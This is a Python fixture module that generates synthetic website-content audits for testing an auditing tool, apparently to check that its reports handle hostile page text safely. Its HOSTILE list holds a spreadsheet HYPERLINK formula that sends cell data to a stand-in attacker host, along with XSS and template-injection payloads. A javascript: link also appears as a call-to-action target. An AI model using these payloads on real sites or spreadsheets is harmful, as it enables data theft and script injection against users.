# ruff: noqa: E501 - tables of examples are easier to read in one line
"""Builds realistic audits of any size from a seed, in Swedish and English, with hostile texts among the pages."""

import random

from auditor.journeys.load import load_journey
from auditor.records.audit import (
    Action,
    Audit,
    Caution,
    CrawlFacts,
    Finding,
    Flow,
    Gap,
    ModelIdentity,
    Part,
    PhaseScore,
    Subject,
    Topic,
    Touchpoint,
)
from auditor.records.base import PHASES
from auditor.records.decision import Decision
from auditor.records.journey import Journey
from auditor.records.judgement import Cta, CtaVerdict, Guess, HumanLabel, PageResult, Reason

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"klicka")',
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "{{ 7*7 }} {{config}} ${7*7}",
    "'\"><svg/onload=window.hacked=1>",
    "\u202egnp.elif \u0000 nul \U0001f600 emoji",
)
SV = {
    "site": "https://www.lindhagasol.example",
    "topics": ("Solceller på villa", "Batterier", "Elavtal och nät", "Service och garanti", "Laddboxar", "Företag"),
    "subjects": ("solceller", "hembatteri", "laddbox", "växelriktare", "elnät", "takmontage", "grönt avdrag"),
    "awareness": ("Så fungerar {}", "Lönar sig {}? Vi reder ut", "Checklista inför {}", "Vad kostar {} i drift?"),
    "consideration": ("Lösningar med {}", "Kundcase: familjen Ek och {}", "Jämför alternativ för {}", "Om vårt arbete med {}"),
    "decision": ("Begär offert på {}", "Priser för {}", "Boka hembesök om {}"),
    "delivery": ("Manual för {}", "Felsökning av {}"),
    "loyalty": ("Kundklubb: förmåner för dig med {}",),
    "none": ("Integritetspolicy", "Lediga jobb: montör av {}"),
    "cta": {"learn": "Se våra lösningar", "quote": "Begär offert", "contact": "Kontakta oss", "book": "Boka hembesök",
            "subscribe": "Prenumerera på nyhetsbrevet", "download": "Ladda ner guiden", "call": "0770-00 00 00"},
    "words": ("offert", "så fungerar", "jämför", "pris", "kundcase", "guide", "boka", "tips", "garanti", "lösning"),
}  # fmt: skip
EN = {
    "site": "https://www.harrowfinch.example",
    "topics": ("Bookkeeping", "Payroll", "VAT", "Year-end", "Start-ups", "Cloud software"),
    "subjects": ("bookkeeping", "payroll", "VAT returns", "year-end accounts", "cloud invoicing", "expenses"),
    "awareness": ("How {} works", "What is {}, and who needs it?", "Checklist for {}", "Trends in {}"),
    "consideration": ("Our {} service", "Case: a bakery sorts out {}", "In-house or outsourced {}?", "How we work with {}"),
    "decision": ("Get a quote for {}", "Prices for {}", "Book a call about {}"),
    "delivery": ("Getting started with {}", "Help with {}"),
    "loyalty": ("Refer a friend: {}",),
    "none": ("Privacy policy", "Careers in {}"),
    "cta": {"learn": "See our services", "quote": "Get a quote", "contact": "Contact us", "book": "Book a call",
            "subscribe": "Subscribe", "download": "Download the guide", "call": "020 0000 0000"},
    "words": ("quote", "how to", "compare", "price", "case study", "guide", "book", "tips", "service", "VAT"),
}  # fmt: skip
TYPES = {
    "awareness": ("article", "article", "article", "glossary", "tool", "news"),
    "consideration": ("service", "service", "case_study", "comparison", "about", "faq", "category"),
    "decision": ("conversion", "pricing", "contact", "product"),
    "delivery": ("support", "account"),
    "loyalty": ("community",),
    "none": ("legal", "careers", "other"),
}
MIX = {"awareness": 0.52, "consideration": 0.2, "decision": 0.07, "delivery": 0.08, "loyalty": 0.03, "none": 0.1}
VERDICTS = ("fits", "fits", "missing", "too-soft", "too-hard", "only-in-menu", "wrong-target")
ZONES = ("title", "heading", "text", "url", "links", "form", "price", "structure")


def sample_audit(
    pages: int = 60, *, language: str = "sv", journey: str = "inbound", seed: int = 7, hostile: bool = True,
    metrics: bool = True,
) -> Audit:  # fmt: skip
    """Return an audit of `pages` pages; the same arguments give the same audit."""
    rng = random.Random(f"{seed}-{pages}-{language}-{journey}")
    words = SV if language == "sv" else EN
    model = load_journey(journey)
    rows = tuple(_page(number, rng, words, model, hostile=hostile, metrics=metrics) for number in range(pages))
    counted = [row for row in rows if row.counted]
    stages = tuple(_stage(stage, counted, rng) for stage in model.stages)
    findings = _findings(rows, model, rng)
    total = sum(stage.score or 0 for stage in stages if stage.counts)
    return Audit(
        tool="auditor 0.1.0",
        site=words["site"].removeprefix("https://"),
        generated_at="2026-11-21T20:05:00Z",
        settings={"max-pages": 1000, "render": "never", "robots": True},
        journey=model,
        model=ModelIdentity(
            id="base",
            version="1",
            digest="9b1c02ff",
            figures={
                "accuracy": 0.828,
                "accuracy_sv": 0.837,
                "accuracy_en": 0.817,
                "sure_accuracy": 0.924,
                "sure_share": 0.68,
            },
        ),
        crawl=_crawl(pages, f"{words['site']}/"),
        score=round(total / max(1, sum(stage.counts for stage in stages)), 1) if counted else None,
        stages=stages,
        findings=findings,
        actions=_actions(rows, model, rng),
        topics=_topics(counted, words),
        flows=_flows(model, rng),
        touchpoints=_touchpoints(rows),
        pages=rows,
        counted_pages=len(counted),
        language_mix={language: max(0, pages - 1), "no": min(pages, 1)},
        warnings=(Caution(key="many-unsure", values={"share": 0.18}),),
    )


def _page(number, rng, words, model: Journey, *, hostile, metrics) -> PageResult:
    phase = rng.choices(list(MIX), list(MIX.values()))[0] if number else "consideration"
    kind = rng.choice(TYPES[phase]) if number else "home"
    subject = rng.choice(words["subjects"])
    title = rng.choice(words[phase]).format(subject) if number else "Lindhaga & Co"
    if hostile and number % 9 == 4:
        title = HOSTILE[number // 9 % len(HOSTILE)]
    slug = f"{phase}/{subject.replace(' ', '-')}-{number}" if number else ""
    guess = _guess(phase, kind, rng, words)
    stage = next((s.id for s in model.stages if phase in s.labels), "")
    ctas = _ctas(rng, words, hostile=hostile and number % 9 == 4)
    verdict = rng.choice(VERDICTS)
    if verdict in ("missing", "only-in-menu"):
        ctas = tuple(cta for cta in ctas if cta.place != "main")
    counted = phase != "none" and number % 23 != 11
    return PageResult(
        url=f"{words['site']}/{slug}",
        status=200 if number % 31 else 404 if number else 200,
        counted=counted,
        excluded_by="" if counted else "phase-none" if phase == "none" else "noindex",
        language="sv" if words is SV else "en",
        title=title,
        h1=title,
        description=f"{title}.",
        depth=rng.randint(0, 4),
        guess=guess,
        stage=stage,
        topic=f"t{words['subjects'].index(subject) % len(words['topics'])}",
        ctas=ctas,
        cta_verdict=CtaVerdict(
            verdict=verdict,
            rule=f"{stage}.ctas.fits",
            kinds_expected=("quote", "contact"),
            kinds_found=tuple(cta.kind for cta in ctas),
        ),
        word_count=rng.randint(60, 1800),
        readability="lix" if words is SV else "flesch",
        readability_value=round(rng.uniform(28, 62), 1),
        published=f"20{rng.randint(18, 26)}-{rng.randint(1, 12):02}-14" if phase == "awareness" else "",
        inlinks=rng.randint(0, 90),
        inlinks_main=rng.randint(0, 12),
        outlinks_main=rng.randint(0, 20),
        next_steps=rng.choice((0, 0, 1, 2, 3)),
        clicks_to_decision=rng.choice((None, 1, 2, 3)),
        has_form=rng.random() < 0.2,
        has_phone=rng.random() < 0.4,
        has_mail=rng.random() < 0.4,
        has_price=rng.random() < 0.1,
        human=HumanLabel(url=f"{words['site']}/{slug}", phase=phase, by="Eva", note="läst") if number == 3 else None,
        decision=_decision(number, words),
        metrics={"clicks": float(rng.randint(0, 900)), "impressions": float(rng.randint(900, 9000))} if metrics else {},
    )


def _decision(number, words) -> Decision | None:
    """Every verdict among the first pages; the rest are kept, and a page that does not answer has none."""
    if number and number % 31 == 0:
        return None
    target = f"{words['site']}/"
    made = {
        4: Decision(verdict="remove", reason="old-unread", certainty="medium", visits=3.0),
        5: Decision(verdict="redirect", reason="copy", target=target),
        6: Decision(verdict="merge", reason="rival", certainty="low", target=target),
        7: Decision(verdict="person", reason="unsure", certainty="low"),
        8: Decision(verdict="improve", reason="faults", checks=("missing-cta",)),
        9: Decision(verdict="keep", reason="person", source="human",
                    proposed=Decision(verdict="redirect", reason="copy", target=target)),
    }  # fmt: skip
    return made.get(number, Decision(verdict="keep", reason="works"))


def _guess(phase, kind, rng, words) -> Guess:
    top = rng.uniform(0.4, 0.97)
    others = [name for name in PHASES if name != phase]
    parts = [rng.random() for _ in others]
    shares = {name: (1 - top) * part / sum(parts) for name, part in zip(others, parts, strict=True)} | {phase: top}
    second = max(others, key=lambda name: shares[name])
    return Guess(
        phase=phase,
        second=second if shares[second] > 0.2 else None,
        shares=shares,
        sure=top > 0.55,
        content_type=kind,
        type_shares={kind: 0.7, "other": 0.2},
        because=tuple(
            Reason(what=rng.choice(words["words"]), weight=round(rng.uniform(-1, 2.5), 2), for_=phase, zone=rng.choice(ZONES))
            for _ in range(6)
        ),
        note="" if top > 0.5 else "mixed",
    )  # fmt: skip


def _ctas(rng, words, *, hostile) -> tuple[Cta, ...]:
    kinds = rng.sample(list(words["cta"]), rng.choice((0, 1, 1, 2, 3)))
    found = [
        Cta(kind=kind, text=words["cta"][kind], target=f"{words['site']}/kontakt", place="main", strength="medium",
            rule=f"sv.{kind}", primary=place == 0)
        for place, kind in enumerate(kinds)
    ]  # fmt: skip
    if hostile:
        found.append(
            Cta(kind="buy", text="<b>Köp</b> =1+1", target="javascript:alert(1)", place="main", strength="hard")
        )
    menu = Cta(kind="contact", text=words["cta"]["contact"], target=f"{words['site']}/kontakt", place="header",
               strength="medium", repeated=True)  # fmt: skip
    return (*found, menu)


def _stage(stage, counted, rng) -> PhaseScore:
    own = [page for page in counted if page.stage == stage.id]
    share = len(own) / max(1, len(counted))
    weights = {"coverage": 25, "content": 25, "ctas": 25, "way_forward": 15, "quality": 10}
    parts = tuple(
        Part(id=name, value=(value := round(rng.uniform(0.15, 0.95), 2) if own else 0.0), weight=weight,
             points=round(value * weight, 1), possible=weight)
        for name, weight in weights.items()
    )  # fmt: skip
    missing = stage.expects[-2:] if stage.counts else ()
    ctas: dict[str, int] = {}
    verdicts: dict[str, int] = {}
    types: dict[str, int] = {}
    for page in own:
        types[page.guess.content_type] = types.get(page.guess.content_type, 0) + 1
        verdicts[page.cta_verdict.verdict] = verdicts.get(page.cta_verdict.verdict, 0) + 1
        for kind in {cta.kind for cta in page.ctas if cta.place == "main"}:
            ctas[kind] = ctas.get(kind, 0) + 1
    return PhaseScore(
        stage=stage.id,
        counts=stage.counts,
        pages=len(own),
        share=share,
        target_share=stage.target_share,
        score=round(sum(part.points for part in parts), 1) if stage.counts else None,
        parts=parts if stage.counts else (),
        gaps=tuple(Gap(id=e.id, stage=stage.id, points=round(rng.uniform(0.4, 3), 1)) for e in missing),
        types=types,
        ctas=ctas,
        verdicts=verdicts,
        pages_without_cta=verdicts.get("missing", 0) + verdicts.get("only-in-menu", 0),
        unsure=sum(not page.guess.sure for page in own),
        clicks=sum(page.metrics.get("clicks", 0) for page in own) or None,
    )


def _findings(rows, model, rng) -> tuple[Finding, ...]:
    found = []
    for page in rows:
        if not page.counted:
            continue
        if page.cta_verdict.verdict == "missing":
            found.append(_finding("missing-cta", "page", page, rng, "ctas"))
        if page.next_steps == 0:
            found.append(_finding("dead-end", "no-later", page, rng, "way_forward"))
    gap = {"topic": "Batterier", "pages": 3, "stage": "decision"}
    found.append(Finding(check="topic-gap", subject=Subject(kind="topic", id="t1"), verdict="fail", key="no-later",
                         stage="decision", part="content", points=0.5, values=gap))  # fmt: skip
    return tuple(found)


def _finding(check, key, page, rng, part) -> Finding:
    return Finding(
        check=check, subject=Subject(kind="page", id=page.url), verdict="fail", key=key, stage=page.stage, part=part,
        points=round(rng.uniform(0.01, 0.4), 2), evidence=(page.url,),
        values={"stage": page.stage, "page": page.url, "suggest": "quote", "links": page.outlinks_main},
    )  # fmt: skip


def _actions(rows, model, rng) -> tuple[Action, ...]:
    made = []
    counting = [stage for stage in model.stages if stage.counts]
    for stage in counting:
        own = [page for page in rows if page.counted and page.stage == stage.id]
        without = tuple(page.url for page in own if page.cta_verdict.verdict == "missing")
        ends = tuple(page.url for page in own if page.next_steps == 0)
        onward = tuple(page.url for page in rows if page.stage == counting[-1].id)[:2]
        if without:
            made.append(Action(
                id=f"missing-cta-{stage.id}", check="missing-cta", key="many", stage=stage.id, effort="low",
                points=round(rng.uniform(1, 6), 1), pages=without, links_to=onward, suggest_cta=stage.ctas.suggest,
                values={"stage": stage.id, "pages": len(without), "suggest": "quote"},
            ))  # fmt: skip
        if ends:
            made.append(Action(
                id=f"dead-end-{stage.id}", check="dead-end", key="many", stage=stage.id, effort="medium",
                points=round(rng.uniform(1, 4), 1), pages=ends, links_from=ends[:3], links_to=onward,
                values={"stage": stage.id, "pages": len(ends)},
            ))  # fmt: skip
        if stage.expects:
            made.append(Action(
                id=f"missing-content-{stage.id}", check="missing-content-type", key="missing", stage=stage.id, effort="high",
                points=round(rng.uniform(1, 5), 1), suggest_type=stage.expects[-1].types[0],
                links_from=tuple(page.url for page in own[:3]),
                values={"stage": stage.id, "name_sv": stage.expects[-1].names["sv"],
                        "name_en": stage.expects[-1].names["en"]},
            ))  # fmt: skip
    return tuple(sorted(made, key=lambda action: -action.points))


def _topics(counted, words) -> tuple[Topic, ...]:
    made = []
    for place, label in enumerate(words["topics"]):
        own = [page for page in counted if page.topic == f"t{place}"]
        stages: dict[str, int] = {}
        for page in own:
            stages[page.stage] = stages.get(page.stage, 0) + 1
        made.append(Topic(id=f"t{place}", label=label, terms=tuple(label.lower().split()), pages=len(own), stages=stages,
                          examples=tuple(page.url for page in own[:2])))  # fmt: skip
    return tuple(made)


def _flows(model, rng) -> tuple[Flow, ...]:
    ids = [stage.id for stage in model.stages]
    return tuple(
        Flow(source=a, target=b, links=rng.randint(0, 120), pages=rng.randint(0, 20))
        for a in ids
        for b in [*ids, ""]
        if rng.random() < 0.8
    )


def _touchpoints(rows) -> tuple[Touchpoint, ...]:
    seen = tuple(page.url for page in rows[:2])
    return tuple(
        Touchpoint(id=key, group=group, name=name, pages=len(seen), evidence=seen)
        for key, group, name in (
            ("contact-form", "contact", "Kontaktformulär"),
            ("phone", "contact", "Telefon"),
            ("linkedin", "social", "LinkedIn"),
            ("ga4", "measuring", "Google Analytics 4"),
        )
        if seen
    )


TRAP = "same-content exempel.se/kalender/{n} (37): SITEkalender/1 SITEkalender/2"


def _crawl(pages, site) -> CrawlFacts:
    return CrawlFacts(
        started_at="2026-11-21T19:58:00Z", finished_at="2026-11-21T20:04:10Z", targets=(site,), fetched=pages + 9,
        html_pages=pages, failed=4, queued=12, skipped={"robots": 14, "not-html": 31, "trap": 3},
        errors={"timeout": 3, "too-large": 1}, traps=(TRAP.replace("SITE", site),), stopped_by="max-pages", seconds=370.4,
        robots="found", sitemaps=1,
    )  # fmt: skip
